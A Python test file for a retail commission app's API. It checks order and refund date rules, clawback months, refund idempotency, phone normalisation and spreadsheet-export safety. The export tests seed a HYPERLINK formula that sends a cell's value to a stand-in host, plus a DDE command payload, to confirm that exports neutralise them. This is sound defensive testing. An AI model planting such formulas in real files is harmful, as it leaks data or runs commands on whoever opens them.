"""Money and dates through the HTTP API (issue 14): fact times are checked by one rule,
clawbacks land in the month a refund is recorded, refund numbers cannot change amount,
order phones are normalised, a POS buyer gets the store, exports hold no live formulas and
commission lines name members recruited without a name."""

import csv
import io
from datetime import datetime, timedelta, timezone
from decimal import Decimal

import pytest
from openpyxl import load_workbook
from sqlalchemy import func, select

from guideapp.commissions.models import CommissionEntry
from guideapp.commissions.rules import month_bounds, month_of
from guideapp.commissions.service import current_month
from guideapp.members.models import Member, Order, OrderRefund
from tests.commission_factories import recruit
from tests.conftest import GUIDE, HQ, MANAGER, MP_APPID
from tests.factories import staff_by_phone, store_by_code

ZONE = "Asia/Shanghai"


def now() -> datetime:
    return datetime.now(timezone.utc)


def order_body(**overrides) -> dict:
    return {
        "channel": "pos",
        "order_no": "MD-1",
        "amount_fen": 69900,
        "ordered_at": (now() - timedelta(hours=1)).isoformat(),
        "phone": "13566661234",
        **overrides,
    }


def error_fields(response) -> set[str]:
    """Field names in an error, wherever this API version nests them."""
    errors = response.get_json().get("errors") or {}
    nested = [v for k, v in errors.items() if k in ("json", "query") and isinstance(v, dict)]
    return set(errors) | {k for group in nested for k in group}


def count(session, model, *where) -> int:
    return session.scalar(select(func.count()).select_from(model).where(*where))


# --- fact times: one rule (guideapp/moments.py) ----------------------------------------


@pytest.mark.parametrize(
    "ordered_at",
    [
        "1900-01-01T00:00:00+00:00",
        "0001-01-01T00:00:00+00:00",
        "1999-12-31T23:59:59+00:00",
        "2030-01-01T00:00:00+08:00",
        "9999-12-31T23:59:59+00:00",
        "in an hour",
    ],
)
def test_orders_dated_in_the_future_or_absurdly_long_ago_are_refused(api, session, ordered_at):
    if ordered_at == "in an hour":
        ordered_at = (now() + timedelta(hours=1)).isoformat()
    members = count(session, Member)
    response = api.post(HQ, "/api/v1/orders", json=order_body(ordered_at=ordered_at))
    assert response.status_code == 422, response.get_json()
    assert "ordered_at" in error_fields(response)
    assert count(session, Order, Order.order_no == "MD-1") == 0
    assert count(session, Member) == members  # nothing written, not even the buyer


def test_a_few_minutes_of_clock_skew_are_taken(api, session):
    ahead = (now() + timedelta(minutes=2)).isoformat()
    response = api.post(HQ, "/api/v1/orders", json=order_body(ordered_at=ahead))
    assert response.status_code == 200, response.get_json()
    member = session.scalar(select(Member).where(Member.phone == "13566661234"))
    assert member.last_order_at < now() + timedelta(minutes=5)
    refund = api.post(
        HQ,
        "/api/v1/orders/refunds",
        json={"channel": "pos", "order_no": "MD-1", "refund_no": "R-1", "amount_fen": 100},
    )
    assert refund.status_code == 200, refund.get_json()
    row = session.get(OrderRefund, refund.get_json()["id"])
    assert row.refunded_at >= datetime.fromisoformat(ahead)  # never before its order


@pytest.mark.parametrize(
    "refunded_at,why",
    [
        ("2031-01-15T10:00:00+08:00", "future"),
        ("in an hour", "future"),
        ("before the order", "order"),
        ("1900-01-01T00:00:00+00:00", "2000-01-01"),
    ],
)
def test_refunds_in_the_future_or_before_their_order_are_refused(api, session, refunded_at, why):
    ordered = now() - timedelta(days=2)
    assert api.post(HQ, "/api/v1/orders", json=order_body(ordered_at=ordered.isoformat()))
    refunded_at = {
        "in an hour": (now() + timedelta(hours=1)).isoformat(),
        "before the order": (ordered - timedelta(days=1)).isoformat(),
    }.get(refunded_at, refunded_at)
    response = api.post(
        HQ,
        "/api/v1/orders/refunds",
        json={
            "channel": "pos",
            "order_no": "MD-1",
            "refund_no": "R-1",
            "amount_fen": 100,
            "refunded_at": refunded_at,
        },
    )
    assert response.status_code == 422, response.get_json()
    assert "refunded_at" in error_fields(response)
    assert why in " ".join(response.get_json()["errors"]["refunded_at"])
    assert count(session, OrderRefund, OrderRefund.refund_no == "R-1") == 0


def test_a_late_reported_refund_is_clawed_back_in_the_month_it_is_recorded(api, session):
    """The refund happened last month, HQ records it today: this (open) month pays less."""
    guide = staff_by_phone(session, GUIDE)
    this_month = current_month(session, guide.tenant_id)
    start, _ = month_bounds(this_month, ZONE)
    ordered = start - timedelta(days=20)  # last month
    last_month = month_of(ordered, ZONE)
    created = api.post(GUIDE, "/api/v1/members", json={"phone": "13566661234", "name": "李四"})
    assert created.status_code == 201, created.get_json()
    api.post(HQ, "/api/v1/orders", json=order_body(ordered_at=ordered.isoformat()))
    refund = api.post(
        HQ,
        "/api/v1/orders/refunds",
        json={
            "channel": "pos",
            "order_no": "MD-1",
            "refund_no": "R-1",
            "amount_fen": 69900,
            "refunded_at": (ordered + timedelta(days=1)).isoformat(),
        },
    )
    assert refund.status_code == 200, refund.get_json()
    last = api.get(GUIDE, f"/api/v1/commissions/me?month={last_month}").get_json()
    assert {e["kind"] for e in last["entries"]} == {"order"}  # earned when ordered
    mine = api.get(GUIDE, "/api/v1/commissions/me").get_json()
    clawback = next(e for e in mine["entries"] if e["kind"] == "clawback")
    assert clawback["accounting_month"] == this_month and clawback["amount_fen"] == -2097
    assert clawback["event_at"].startswith((ordered + timedelta(days=1)).strftime("%Y-%m-%d"))


def test_a_clawback_never_lands_in_a_settled_month(api, session):
    """Recorded in a month already settled (clock of the test): the next open month."""
    from guideapp.commissions.settlement import close_month
    from guideapp.members.orders import ingest_order, ingest_refund

    guide = staff_by_phone(session, GUIDE)
    member = recruit(session, guide, at=datetime(2026, 10, 2, tzinfo=timezone.utc))
    data = order_body(ordered_at=datetime(2026, 10, 3, tzinfo=timezone.utc), phone=member.phone)
    ingest_order(session, tenant_id=guide.tenant_id, data=data)
    close_month(session, tenant_id=guide.tenant_id, month="2026-10")
    refund, _ = ingest_refund(
        session,
        tenant_id=guide.tenant_id,
        data={"channel": "pos", "order_no": "MD-1", "refund_no": "R-1", "amount_fen": 69900},
        now=datetime(2026, 10, 20, tzinfo=timezone.utc),  # recorded in October, settled since
    )
    months = session.scalars(
        select(CommissionEntry.accounting_month).where(CommissionEntry.source_id == refund.id)
    ).all()
    assert months == ["2026-11"]


# --- refunds are idempotent by number, and a number cannot change amount ---------------


def test_a_refund_number_resent_with_another_amount_is_a_conflict(api, session):
    api.post(HQ, "/api/v1/orders", json=order_body())
    refund = {"channel": "pos", "order_no": "MD-1", "refund_no": "R-1", "amount_fen": 9990}
    first = api.post(HQ, "/api/v1/orders/refunds", json=refund)
    assert first.status_code == 200 and first.get_json()["created"]
    same = api.post(HQ, "/api/v1/orders/refunds", json=refund)
    assert same.status_code == 200 and not same.get_json()["created"]
    changed = api.post(HQ, "/api/v1/orders/refunds", json={**refund, "amount_fen": 5000})
    assert changed.status_code == 409, changed.get_json()
    assert "refund_no" in error_fields(changed)
    order = session.scalar(select(Order).where(Order.order_no == "MD-1"))
    session.refresh(order)
    assert order.refunded_fen == 9990


# --- the buyer: phone normalised, store learned, name learned ---------------------------


@pytest.mark.parametrize("phone", ["12345", "23800000000", "not a phone", "138000000011"])
def test_an_order_with_a_phone_that_is_no_mobile_number_is_refused(api, session, phone):
    members = count(session, Member)
    response = api.post(HQ, "/api/v1/orders", json=order_body(phone=phone))
    assert response.status_code == 422, response.get_json()
    assert "phone" in error_fields(response)
    assert (
        count(session, Member) == members and count(session, Order, Order.order_no == "MD-1") == 0
    )


def test_an_order_phone_is_normalised_like_members_and_scans(api, session):
    response = api.post(HQ, "/api/v1/orders", json=order_body(phone="+86 135-6666-1234"))
    assert response.status_code == 200, response.get_json()
    member = session.get(Member, response.get_json()["order"]["member_id"])
    assert (member.phone, member.phone_tail) == ("13566661234", "1234")


def test_a_pos_buyer_new_to_us_joins_the_orders_store(api, session):
    store = store_by_code(session, "SH001")
    response = api.post(HQ, "/api/v1/orders", json=order_body(store_code="SH001"))
    assert response.status_code == 200, response.get_json()
    member_id = response.get_json()["order"]["member_id"]
    member = session.get(Member, member_id)
    assert member.store_id == store.id and member.guide_id is None  # the store's pool
    card = api.get(MANAGER, f"/api/v1/members/{member_id}/card")
    assert card.status_code == 200, card.get_json()  # SH001's manager finds them
    found = api.get(MANAGER, "/api/v1/members?phone_tail=1234").get_json()["items"]
    assert member_id in {m["id"] for m in found}
    elsewhere = api.post(HQ, "/api/v1/orders", json=order_body(order_no="MD-2", store_code="BJ001"))
    assert elsewhere.status_code == 200
    session.refresh(member)
    assert member.store_id == store.id  # a home store stays; a later order elsewhere moves none


def test_a_member_recruited_by_scan_is_named_by_a_later_order(api, session, wechat_apps):
    code = wechat_apps.phone_code(MP_APPID, phone="13566661234")
    scan = api.client.post("/api/v1/scans", json={"code": "zhang-card", "phone_code": code})
    assert scan.status_code in (200, 201), scan.get_json()
    member = session.scalar(select(Member).where(Member.phone == "13566661234"))
    assert member.name == "" and member.guide_id == staff_by_phone(session, GUIDE).id
    texts = {e["text"] for e in api.get(GUIDE, "/api/v1/commissions/me").get_json()["entries"]}
    assert "招募会员 新会员 (尾号1234) 奖励 ¥5.00" in texts
    api.post(HQ, "/api/v1/orders", json=order_body(buyer_name="王小明"))
    session.refresh(member)
    assert member.name == "王小明"
    texts = {e["text"] for e in api.get(GUIDE, "/api/v1/commissions/me").get_json()["entries"]}
    assert "招募会员 王小明 奖励 ¥5.00" in texts
    assert "会员 王小明 首单 ¥699.00 提成 3% ¥20.97" in texts
    api.post(HQ, "/api/v1/orders", json=order_body(order_no="MD-2", buyer_name="别人"))
    session.refresh(member)
    assert member.name == "王小明"  # a name is learned once, never overwritten by a buyer


# --- exports: no live formulas, numbers as numbers, the guide's phone --------------------


HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'


def _settled_october(api, session):
    guide = staff_by_phone(session, GUIDE)
    guide.name = HOSTILE
    store = store_by_code(session, "SH001")
    store.name = "@SUM(1+1)*cmd|' /C calc'!A0"
    session.flush()
    recruit(session, guide, at=datetime(2026, 10, 15, 4, tzinfo=timezone.utc), name="十月")
    closed = api.post(HQ, "/api/v1/commissions/settlements?wait=true", json={"month": "2026-10"})
    assert closed.status_code == 201, closed.get_json()
    return guide, f"/api/v1/commissions/settlements/{closed.get_json()['id']}/export"


def test_csv_export_has_no_live_formulas_and_numeric_money(api, session):
    guide, url = _settled_october(api, session)
    text = api.get(HQ, f"{url}?format=csv&level=guide").data.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    header = rows[0]
    assert "导购手机号" in header and "实得(分)" in header and "实得(元)" in header
    mine = next(r for r in rows[1:] if r[header.index("导购ID")] == guide.id)
    assert mine[header.index("导购")] == "'" + HOSTILE
    assert mine[header.index("门店")].startswith("'@")
    assert mine[header.index("导购手机号")] == GUIDE
    assert int(mine[header.index("实得(分)")]) == 500
    assert Decimal(mine[header.index("实得(元)")]) == Decimal("5.00")  # not "¥5.00"
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
            assert not cell.startswith("-") or _number(cell), cell


def _number(cell: str) -> bool:
    try:
        Decimal(cell)
    except ArithmeticError:
        return False
    return True


def test_xlsx_export_has_no_live_formulas_and_numeric_money(api, session):
    guide, url = _settled_october(api, session)
    response = api.get(HQ, f"{url}?format=xlsx&level=guide")
    sheet = load_workbook(io.BytesIO(response.data)).active
    cells = [c for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]  # no formula anywhere
    header = [c.value for c in next(sheet.iter_rows(min_row=2, max_row=2))]
    mine = next(
        [c.value for c in row]
        for row in sheet.iter_rows(min_row=3)
        if row[header.index("导购ID")].value == guide.id
    )
    assert mine[header.index("导购")] == "'" + HOSTILE
    assert mine[header.index("导购手机号")] == GUIDE
    assert mine[header.index("实得(分)")] == 500
    assert mine[header.index("实得(元)")] == 5  # a number, not "¥5.00"
    total = [c.value for c in list(sheet.iter_rows())[-1]]
    assert total[0] == "合计" and isinstance(total[header.index("实得(元)")], (int, float))
